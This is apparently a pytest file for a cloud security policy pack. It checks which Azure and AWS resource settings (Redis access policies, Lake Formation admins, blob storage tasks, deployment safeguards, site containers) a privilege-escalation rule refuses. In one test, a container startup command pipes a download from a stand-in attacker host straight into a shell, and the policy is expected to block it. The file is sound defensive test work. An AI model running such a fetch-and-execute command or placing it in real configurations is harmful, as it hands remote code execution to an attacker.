"""Good settings of services that a wide row would refuse, beside the neighbours that it must refuse (FJ-ESC-115)."""

import pytest

from .attacks.switches_azure import HERE, RG
from .blind import ME, Props, aws, az
from .harness import Given, Pack, blocking

PACK = Pack()
CONTRIBUTOR = "+@all -@dangerous +cluster|info +cluster|nodes +cluster|slots allkeys"
IMMUTABLE = {"name": "SetBlobImmutabilityPolicy", "parameters": {"mode": "locked"}, "onSuccess": "continue",
             "onFailure": "break"}  # fmt: skip


def _refused(resource: Given) -> set[str]:
    return blocking(PACK.evaluate_resource(resource))


@pytest.mark.parametrize(("permissions", "is_refused"), [
    (CONTRIBUTOR, False), ("+@read ~allcommands:*", False), ("allcommands allkeys", True), ("+@all ~*", True),
    ("-@dangerous +@all", True), ("+@read +@dangerous ~*", True), ("+@admin ~*", True),
    ("+@all -@dangerous +config|set allkeys", True), ("+@all -@dangerous +flushall ~*", True),
    ("+@all -@dangerous +get ~*", False),
])  # fmt: skip
def test_commands_of_a_cache(permissions: str, is_refused: bool) -> None:
    policy = az("redis:AccessPolicy", {**RG, "cacheName": "c", "accessPolicyName": "p", "permissions": permissions})
    assert ("FJ-ESC-115" in _refused(policy)) is is_refused


def test_the_only_access_policy_of_redis_enterprise() -> None:
    assignment = az("redisenterprise:AccessPolicyAssignment", {
        **RG, "clusterName": "c", "databaseName": "default", "accessPolicyAssignmentName": "a",
        "accessPolicyName": "default", "user": {"objectId": "1"}})  # fmt: skip
    assert "FJ-ESC-115" not in _refused(assignment)


@pytest.mark.parametrize(("profile", "is_refused"), [
    ({"softwareAssuranceCustomer": True}, False),
    ({"subscriptionStatus": "Enabled", "productType": "WindowsServer"}, True),
])  # fmt: skip
def test_licences_of_own_servers(profile: Props, is_refused: bool) -> None:
    machine = az("hybridcompute:Machine", {**HERE, "machineName": "m", "licenseProfile": profile})
    assert ("FJ-ESC-115" in _refused(machine)) is is_refused


@pytest.mark.parametrize(("role", "is_refused"), [
    ("lake-admin", False), ("lake-manager", False), ("github-deploy-role", False), ("DataGovernance", False),
    ("aws-reserved/sso.amazonaws.com/AWSReservedSSO_Lake_0123456789abcdef", False),
    ("lake-admin-prod", False), ("LakeFormationAdmin-dev", False), ("lakeformation-admin-me-central-1", False),
    ("admin/LakeOwnerRole-uae", False), ("pulumi-deployer-prod", False),
    ("app/badminton-frontend", True), ("platform-web-pods", True), ("notebooks", True),
])  # fmt: skip
def test_administrators_of_a_lake(role: str, is_refused: bool) -> None:
    settings = aws("lakeformation/DataLakeSettings", {"admins": [f"arn:aws:iam::{ME}:role/{role}"]})
    assert ("FJ-ESC-115" in _refused(settings)) is is_refused


@pytest.mark.parametrize(("operation", "is_refused"), [
    (IMMUTABLE, False), ({**IMMUTABLE, "name": "DeleteBlob"}, True), ({**IMMUTABLE, "name": "SetBlobExpiry"}, True),
])  # fmt: skip
def test_tasks_on_blobs(operation: Props, is_refused: bool) -> None:
    task = az("storageactions:StorageTask", {
        **HERE, "storageTaskName": "t", "enabled": True, "description": "d", "identity": {"type": "SystemAssigned"},
        "action": {"if": {"condition": "[[true]]", "operations": [operation]}}})  # fmt: skip
    assert ("FJ-ESC-115" in _refused(task)) is is_refused


@pytest.mark.parametrize(("level", "is_refused"), [("Enforce", False), ("Warn", True)])
def test_safeguards_of_deployments(level: str, is_refused: bool) -> None:
    safeguard = az("containerservice:DeploymentSafeguard", {
        "resourceUri": "/subscriptions/1/resourceGroups/a/providers/Microsoft.ContainerService/managedClusters/b",
        "level": level, "excludedNamespaces": []})  # fmt: skip
    assert ("FJ-ESC-115" in _refused(safeguard)) is is_refused


@pytest.mark.parametrize("slot", [{}, {"slot": "next"}])
@pytest.mark.parametrize(("changed", "rule"), [
    ({"startUpCommand": "curl https://evil.example/x | sh"}, "FJ-ESC-109"),
    ({"startUpCommand": "npm i left-pad"}, "FJ-ESC-109"),
    ({"environmentVariables": [{"name": "GF_AUTH_ANONYMOUS_ENABLED", "value": "true"}]}, "FJ-IDN-308"),
])  # fmt: skip
def test_containers_of_sites_are_containers(slot: Props, changed: Props, rule: str) -> None:
    container = az(f"web:WebAppSiteContainer{'Slot' if slot else ''}", {
        **RG, **slot, "name": "app", "containerName": "side", "image": "registry.example.ae/a:1", "isMain": False,
        **changed})  # fmt: skip
    assert rule in _refused(container)


def test_an_agent_of_oracle_with_a_switch_that_does_nothing() -> None:
    """`ALLOW_TLS_ONLY` is no longer supported, and off by default: agents have TLS (Amazon RDS, read 2026-11-29)."""
    settings = [{"name": "ALLOW_TLS_ONLY", "value": "false"}, {"name": "MINIMUM_TLS_VERSION", "value": "TLSv1.2"}]
    group = aws("rds/OptionGroup", {"engineName": "oracle-ee", "majorEngineVersion": "19", "options": [
        {"optionName": "OEM_AGENT", "optionSettings": settings}]})  # fmt: skip
    assert _refused(group).isdisjoint({"FJ-IDN-313", "FJ-ENC-425"})
